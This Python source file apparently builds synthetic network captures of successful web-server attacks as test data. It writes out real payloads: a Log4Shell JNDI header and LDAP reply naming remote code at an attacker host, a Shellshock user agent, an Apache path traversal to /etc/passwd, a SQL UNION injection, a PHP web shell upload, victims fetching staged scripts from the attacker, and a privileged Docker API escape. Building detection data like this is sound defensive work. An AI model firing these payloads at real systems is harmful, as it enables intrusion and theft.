"""Attacks on web servers that succeed, and what their answers give away."""

from pcaps import apps
from pcaps.talk import APP02, ATTACKER, CI01, WEB03, WS21, Guest, Tcp, Wire

PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
ID = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
STAGING = "SimpleHTTP/0.6 Python/3.11.2"


def program(kind: str, rng_bytes: bytes) -> bytes:
    """Something that begins like a program and is none."""
    if kind == "elf":
        return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + rng_bytes
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + b"\x80\0\0\0" + stub + rng_bytes


def log4shell(wire: Wire, victim: Guest) -> None:
    """The lookup, the victim's LDAP question, the answer that names code."""
    header = {"X-Api-Version": "${jndi:ldap://10.20.0.66:1389/o=x}"}
    apps.http(
        wire,
        ATTACKER,
        victim,
        (apps.request("/", "web-03", headers=header), apps.response(apps.page("Shop"))),
        port=8080,
    )
    ldap = Tcp(wire, victim, ATTACKER, 1389).open()
    ldap.client(bytes.fromhex("300c020101600702010304008000"))
    ldap.server(bytes.fromhex("300c02010161070a010004000400"))
    ldap.client(
        bytes.fromhex("3024020102631f0403")
        + b"o=x"
        + bytes.fromhex("0a01000a0100020100020100010100870b")
        + b"objectClass0\0"
    )

    def attribute(kind: bytes, value: bytes) -> bytes:
        inner = b"\x04" + bytes([len(value)]) + value
        body = b"\x04" + bytes([len(kind)]) + kind + b"\x31" + bytes([len(inner)]) + inner
        return b"\x30" + bytes([len(body)]) + body

    found = b"".join((
        attribute(b"javaClassName", b"Main"), attribute(b"javaCodeBase", b"http://10.20.0.66:8000/"),
        attribute(b"objectClass", b"javaNamingReference"), attribute(b"javaFactory", b"Main"),
    ))  # fmt: skip
    entry = b"\x04\x03o=x\x30\x81" + bytes([len(found)]) + found
    inner = b"\x02\x01\x02\x64\x81" + bytes([len(entry)]) + entry
    ldap.server(b"\x30\x81" + bytes([len(inner)]) + inner + bytes.fromhex("300c02010265070a010004000400"))
    ldap.close()


def shellshock(wire: Wire) -> None:
    ask = apps.request("/cgi-bin/status", "web-03", agent="() { :; }; echo; /usr/bin/id")
    apps.http(wire, ATTACKER, WEB03, (ask, apps.response(ID, kind="text/plain")))


def traversal(wire: Wire) -> None:
    ask = apps.request("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "web-03", agent=apps.CURL)
    apps.http(wire, ATTACKER, WEB03, (ask, apps.response(PASSWD, kind="text/plain", server="Apache/2.4.49 (Unix)")))


def injection(wire: Wire) -> None:
    path = "/item?id=1%20UNION%20ALL%20SELECT%20NULL,user,password%20FROM%20users--%20-"
    ask = apps.request(path, "web-03", agent="sqlmap/1.8.4#stable (https://sqlmap.org)")
    apps.http(wire, ATTACKER, WEB03, (ask, apps.response(apps.page("Item"))))


def webshell(wire: Wire) -> None:
    """Uploaded in two parts of a form, then used."""
    code = b"<?php system($_GET['cmd']); ?>"
    body = b'--x\r\nContent-Disposition: form-data; name="f"; filename="logo.php"\r\n\r\n' + code + b"\r\n--x--\r\n"
    upload = apps.request(
        "/upload.php", "web-03", method="POST", body=body, headers={"Content-Type": "multipart/form-data; boundary=x"}
    )
    use = apps.request("/uploads/logo.php?cmd=id", "web-03", agent=apps.CURL)
    apps.http(wire, ATTACKER, WEB03, (upload, apps.response(b"ok\n")), (use, apps.response(ID)))


def tools(wire: Wire) -> None:
    """The victims fetch what the attacker has laid out."""

    def fetch(client: Guest, path: str, agent: str, body: bytes) -> None:
        kind = "application/octet-stream"
        ask = apps.request(path, "10.20.0.66:8000", agent=agent)
        apps.http(wire, client, ATTACKER, (ask, apps.response(body, kind=kind, server=STAGING)), port=8000)

    fetch(WEB03, "/x.sh", apps.CURL, b"#!/bin/sh\ncd /tmp && ./agent &\n")
    fetch(APP02, "/y.sh", "Wget/1.21.3", b"#!/bin/bash\nid\n")
    fetch(WEB03, "/agent", apps.CURL, program("elf", wire.rng.randbytes(6000)))
    fetch(WS21, "/tool.exe", apps.BROWSER, program("pe", wire.rng.randbytes(6000)))


def docker(wire: Wire) -> None:
    body = b'{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}'
    ask = apps.request("/v1.43/containers/create", "ci-01:2375", method="POST", agent="Docker-Client/26.1", body=body)
    apps.http(
        wire, ATTACKER, CI01, (ask, apps.response(b'{"Id":"9f3c"}', "201 Created", server="Docker/26.1")), port=2375
    )


def captures() -> dict[str, Wire]:
    wire = Wire(seed=3)
    log4shell(wire, APP02)
    for part in (shellshock, traversal, injection, webshell, tools, docker):
        wire.wait(5)
        part(wire)
        wire.wait(5)
        page = (apps.request("/", "www.corp.example"), apps.response(apps.page("Welcome", 900)))
        apps.http(wire, WS21, WEB03, page)
    return {"web": wire}
